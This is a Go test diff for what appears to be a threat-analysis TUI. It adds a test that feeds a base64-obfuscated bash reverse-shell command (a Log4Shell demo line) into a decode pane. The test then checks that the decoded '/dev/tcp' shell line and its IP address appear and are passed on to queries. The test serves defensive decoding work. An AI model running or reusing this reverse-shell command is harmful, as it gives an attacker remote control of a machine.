@@ -8,6 +8,7 @@ import (
 	"os"
 	"path/filepath"
 	"sort"
+	"strings"
 	"syscall"
 	"testing"
 	"time"
@@ -115,5 +116,33 @@ func TestIoCTwoGigabytesBoundedMemory(t *testing.T) {
 	}
 	if rss > 128<<20 {
 		t.Errorf("peak RSS %d MiB reading %d MiB", rss>>20, size>>20)
+	}
+}
+
+// TestDecodePaneAsAPerson pastes the demo's Log4Shell command into the Decode
+// pane of the real binary, reads the decoded reverse shell and its address, and
+// sends the address on to the queries that take one.
+func TestDecodePaneAsAPerson(t *testing.T) {
+	line := "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
+	snaps, _ := tuiDrive(t, 120, 40, nil,
+		"8", "p", "text:"+line, "C-s", "sleep:1", "snap", // 1: decoded, the input selected
+		"j", "snap", // 2: the payload selected
+		"w", "w", "Enter", "sleep:0.5", "snap", // 3: the address sent on
+		"q")
+	if len(snaps) != 3 {
+		t.Fatalf("%d snapshots", len(snaps))
+	}
+	for _, want := range []string{"pasted · 1 payload", "base64>utf-8"} {
+		if !strings.Contains(snaps[0], want) {
+			t.Errorf("snap 1 lacks %q:\n%s", want, snaps[0])
+		}
+	}
+	for _, want := range []string{"bash -i >& /dev/tcp/192.168.2.6/443 0>&1", "ipv4", "192.168.2.6"} {
+		if !strings.Contains(snaps[1], want) {
+			t.Errorf("snap 2 lacks %q:\n%s", want, snaps[1])
+		}
+	}
+	if !strings.Contains(snaps[2], "taking 192.168.2.6") || !strings.Contains(snaps[2], "▶1 Queries") {
+		t.Errorf("snap 3: the address did not reach the query browser:\n%s", snaps[2])
 	}
 }
